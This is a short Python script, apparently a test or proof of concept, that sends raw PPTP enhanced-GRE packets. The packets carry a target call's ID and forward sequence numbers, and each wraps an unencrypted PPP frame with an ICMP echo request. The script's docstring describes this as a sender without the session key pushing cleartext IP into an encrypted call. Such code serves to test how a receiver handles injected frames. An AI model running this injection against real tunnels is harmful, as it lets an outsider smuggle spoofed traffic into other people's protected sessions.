#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Somebody without the key of a call, who knows its addresses and its number, sends IP in
the clear.

Usage: clear_text.py FROM TO CALL-ID SOURCE DESTINATION NUMBER
FROM and TO are the ends of the call, SOURCE and DESTINATION those of the echo requests
inside, of which there are NUMBER.
"""

import socket
import struct
import sys

# Ahead of what has been sent, and no more than is taken for overtaking
FIRST = 100


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def echo_request(source, destination):
    icmp = struct.pack("!BBHHH", 8, 0, 0, 2637, 1)
    icmp = struct.pack("!BBHHH", 8, 0, checksum(icmp), 2637, 1)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 1, 0, 64, 1, 0,
                       socket.inet_aton(source), socket.inet_aton(destination))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + icmp


def main():
    near, far, call_id, source, destination, number = sys.argv[1:]
    frame = b"\xff\x03\x00\x21" + echo_request(source, destination)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_GRE) as sock:
        sock.bind((near, 0))
        for seq in range(FIRST, FIRST + int(number)):
            sock.sendto(struct.pack("!HHHHI", 0x3001, 0x880b, len(frame), int(call_id),
                                    seq) + frame, (far, 0))


if __name__ == "__main__":
    main()
